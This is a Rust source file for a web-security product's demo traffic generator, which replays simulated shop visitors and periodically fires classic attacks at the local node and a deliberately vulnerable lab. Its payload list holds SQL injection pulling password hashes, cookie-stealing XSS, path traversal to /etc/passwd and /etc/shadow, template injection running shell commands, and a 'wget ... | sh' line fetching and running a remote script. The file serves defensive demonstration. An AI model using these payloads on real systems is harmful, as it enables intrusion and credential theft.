//! `rampart demo --traffic on`: a small, steady flow of visitors and a
//! few attackers through the node, so that the console shows a living
//! system.
//!
//! Visitors are the simulator's browsing sessions of the demo shop
//! ([`rampart_sim::demo_shop`], [`rampart_sim::traffic::learning_phase`]),
//! replayed at real time over HTTP ([`rampart_sim::driver::replay`]): a new
//! batch of sessions every [`ROUND`], a few requests per second in all.
//! Every [`ATTACK_EVERY`] (give or take a couple of seconds) one classic
//! attack goes to a real shop parameter or, when the shop serves its lab,
//! to a deliberately vulnerable lab endpoint, which the cloud's scanner
//! then confirms. Each visitor and attacker has an address of its own in
//! `X-Forwarded-For` (the demo node trusts loopback).
//!
//! Nothing here can fail the demo: a request that fails is logged at debug
//! level and the next one goes on.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::sync::watch;
use tracing::debug;

/// A new batch of browsing sessions starts this often.
pub const ROUND: Duration = Duration::from_secs(30);
/// Sessions per round: with the demo shop's sessions (a dozen requests
/// each on average, spread over a minute or two), about two requests per
/// second.
const SESSIONS_PER_ROUND: usize = 6;
/// Rounds replaying at once at most (a session lasts longer than a round).
const MAX_ROUNDS: usize = 4;
/// Sessions of one round replay with at most this many requests in flight.
const CONCURRENCY: usize = 4;
/// One attack about this often.
pub const ATTACK_EVERY: Duration = Duration::from_secs(10);
/// The first attack comes this soon after start.
const FIRST_ATTACK: Duration = Duration::from_secs(3);
/// A request of the attacker gives up after this long.
const ATTACK_TIMEOUT: Duration = Duration::from_secs(10);

/// One attack: the path, the query parameter and its value (sent
/// percent-encoded).
struct Attack {
    path: &'static str,
    param: &'static str,
    value: &'static str,
    lab: bool,
}

/// Classic payloads: SQL injection, XSS, path traversal, command and
/// template injection. The lab's ones hit a real vulnerability (the
/// scanner confirms them); the shop's ones do not (its jobs conclude
/// without an incident).
const ATTACKS: &[Attack] = &[
    Attack {
        path: "/lab/vuln/products",
        param: "category",
        value: "Books' UNION SELECT username, password_hash, 1, 2 FROM users--",
        lab: true,
    },
    Attack {
        path: "/search",
        param: "q",
        value: "' UNION SELECT username, password_hash FROM users--",
        lab: false,
    },
    Attack {
        path: "/lab/vuln/greet",
        param: "name",
        value: "<script>alert(document.cookie)</script>",
        lab: true,
    },
    Attack {
        path: "/search",
        param: "q",
        value: "<img src=x onerror=alert(document.domain)>",
        lab: false,
    },
    Attack {
        path: "/lab/vuln/download",
        param: "file",
        value: "../../../../etc/passwd",
        lab: true,
    },
    Attack {
        path: "/api/products",
        param: "q",
        value: "1' OR '1'='1' --",
        lab: false,
    },
    Attack {
        path: "/lab/vuln/ping",
        param: "host",
        value: "127.0.0.1; cat /etc/passwd",
        lab: true,
    },
    Attack {
        path: "/search",
        param: "q",
        value: "../../../../../etc/shadow",
        lab: false,
    },
    Attack {
        path: "/lab/vuln/hello",
        param: "name",
        value: "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        lab: true,
    },
    Attack {
        path: "/search",
        param: "category",
        value: "Books; wget http://203.0.113.9/x.sh -O- | sh",
        lab: false,
    },
];

/// Attackers' addresses (documentation ranges).
const ATTACKERS: &[&str] = &["203.0.113.7", "198.51.100.23", "203.0.113.66"];

/// Runs until `stop` turns true: visitors and attacks against the node at
/// `node`; `lab` says whether the shop serves its vulnerable lab.
pub async fn run(node: SocketAddr, lab: bool, mut stop: watch::Receiver<bool>) {
    let seed = random_seed();
    debug!(%node, seed, "demo traffic starting");
    tokio::select! {
        _ = async { tokio::join!(browse(node, seed), attack(node, lab, seed)) } => {}
        _ = stop.wait_for(|s| *s) => {}
    }
    debug!("demo traffic stopped");
}

fn random_seed() -> u64 {
    let mut b = [0u8; 8];
    if getrandom::fill(&mut b).is_err() {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.subsec_nanos())
            .unwrap_or(0);
        b[..4].copy_from_slice(&nanos.to_le_bytes());
    }
    u64::from_le_bytes(b)
}

/// The browsing sessions of one round.
pub fn round_schedule(app: &rampart_sim::App, seed: u64) -> rampart_sim::Schedule {
    rampart_sim::traffic::learning_phase(app, seed, SESSIONS_PER_ROUND, ROUND)
}

/// A round of sessions every [`ROUND`], forever (dropping the future
/// aborts the rounds in flight).
async fn browse(node: SocketAddr, seed: u64) {
    let app = rampart_sim::demo_shop();
    let mut rounds = tokio::task::JoinSet::new();
    let mut tick = tokio::time::interval(ROUND);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    for n in 0u64.. {
        tick.tick().await;
        while rounds.try_join_next().is_some() {}
        if rounds.len() >= MAX_ROUNDS {
            debug!("demo traffic: the shop is slow, a round is skipped");
            continue;
        }
        let schedule = round_schedule(&app, seed.wrapping_add(n.wrapping_mul(0x9e37_79b9)));
        debug!(
            round = n,
            requests = schedule.requests.len(),
            "demo traffic: a round of visitors"
        );
        rounds.spawn(async move {
            let outcomes =
                rampart_sim::driver::replay(schedule.requests, node, CONCURRENCY, 1.0).await;
            let failed = outcomes.iter().filter(|o| o.status == 0).count();
            if failed > 0 {
                debug!(
                    round = n,
                    failed, "demo traffic: requests without an answer"
                );
            }
        });
    }
}

/// One attack every [`ATTACK_EVERY`] or so, going round the list (the
/// lab's only when the shop serves it).
async fn attack(node: SocketAddr, lab: bool, seed: u64) {
    let list: Vec<&Attack> = ATTACKS.iter().filter(|a| lab || !a.lab).collect();
    let mut rng = rampart_sim::Rng::new(seed ^ 0x00a7_7ac4);
    tokio::time::sleep(FIRST_ATTACK).await;
    for n in 0usize.. {
        let Some(a) = list.get(n % list.len().max(1)) else {
            return;
        };
        let target = format!("{}?{}={}", a.path, a.param, percent_encode(a.value));
        let from = ATTACKERS[(n / list.len().max(1)) % ATTACKERS.len()];
        match tokio::time::timeout(ATTACK_TIMEOUT, get(node, &target, from)).await {
            Ok(Ok(status)) => debug!(target = %target, status, "demo traffic: attack sent"),
            Ok(Err(e)) => debug!(target = %target, error = %e, "demo traffic: attack failed"),
            Err(_) => debug!(target = %target, "demo traffic: attack timed out"),
        }
        let jitter = rng.range(-2000, 2000);
        let pause = ATTACK_EVERY.as_millis() as i64 + jitter;
        tokio::time::sleep(Duration::from_millis(pause.max(1000) as u64)).await;
    }
}

/// `s` percent-encoded for a query string: everything but unreserved
/// characters.
fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// One GET on a connection of its own, from `client` (X-Forwarded-For);
/// the status.
async fn get(node: SocketAddr, target: &str, client: &str) -> std::io::Result<u16> {
    let mut s = tokio::net::TcpStream::connect(node).await?;
    let req = format!(
        "GET {target} HTTP/1.1\r\nHost: {node}\r\n\
         User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\r\n\
         Accept: text/html,*/*\r\nX-Forwarded-For: {client}\r\nConnection: close\r\n\r\n"
    );
    s.write_all(req.as_bytes()).await?;
    // The status line is enough; the rest is read and dropped, at most
    // 1 MiB.
    let mut head = Vec::with_capacity(64);
    let mut chunk = [0u8; 8192];
    let mut total = 0usize;
    while total < 1 << 20 {
        let n = s.read(&mut chunk).await?;
        if n == 0 {
            break;
        }
        total += n;
        let take = (64 - head.len().min(64)).min(n);
        head.extend_from_slice(&chunk[..take]);
    }
    let head = String::from_utf8_lossy(&head);
    Ok(head
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_are_encoded() {
        assert_eq!(percent_encode("a b'<"), "a%20b%27%3C");
        assert_eq!(percent_encode("x-y_z.~"), "x-y_z.~");
    }

    /// A few requests per second: a round's sessions hold between 0.5 and
    /// 10 requests per second of the round.
    #[test]
    fn a_round_is_a_modest_load() {
        let app = rampart_sim::demo_shop();
        let mut total = 0;
        for seed in 0..8 {
            let s = round_schedule(&app, seed);
            assert_eq!(s.normal_sessions, SESSIONS_PER_ROUND);
            assert!(s.scenarios.is_empty() && s.injected == 0);
            total += s.requests.len();
        }
        let per_sec = total as f64 / 8.0 / ROUND.as_secs_f64();
        assert!((0.5..=10.0).contains(&per_sec), "{per_sec} requests/s");
    }

    #[test]
    fn attacks_without_the_lab_stay_on_the_shop() {
        assert!(ATTACKS.iter().any(|a| a.lab));
        assert!(ATTACKS.iter().any(|a| !a.lab));
        for a in ATTACKS {
            assert_eq!(a.lab, a.path.starts_with("/lab/"), "{}", a.path);
        }
    }
}
